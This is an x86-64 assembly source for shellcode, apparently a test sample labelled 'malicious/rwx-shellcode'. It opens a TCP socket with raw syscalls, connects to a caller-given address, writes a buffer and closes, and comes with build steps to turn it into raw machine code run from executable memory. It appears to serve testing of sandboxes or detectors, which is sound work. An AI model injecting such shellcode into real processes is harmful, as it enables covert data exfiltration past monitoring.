# Clear source of the x86-64 machine code malicious/rwx-shellcode runs from
# anonymous executable memory: f(sockaddr, buf, len) makes a TCP socket,
# connects it to sockaddr, writes buf and closes it, all with raw syscall
# instructions.  Assemble with: as -o sc.o rwx-shellcode.s &&
# objcopy -O binary -j .text sc.o sc.bin
.intel_syntax noprefix
.globl f
f:
  push rbx
  push r12
  push r13
  push r14
  mov r12, rdi
  mov r13, rsi
  mov r14, rdx
  mov eax, 41
  mov edi, 2
  mov esi, 1
  xor edx, edx
  syscall
  test rax, rax
  js 1f
  mov rbx, rax
  mov eax, 42
  mov rdi, rbx
  mov rsi, r12
  mov edx, 16
  syscall
  test rax, rax
  jnz 2f
  mov eax, 1
  mov rdi, rbx
  mov rsi, r13
  mov rdx, r14
  syscall
2:
  mov eax, 3
  mov rdi, rbx
  syscall
  xor eax, eax
1:
  pop r14
  pop r13
  pop r12
  pop rbx
  ret
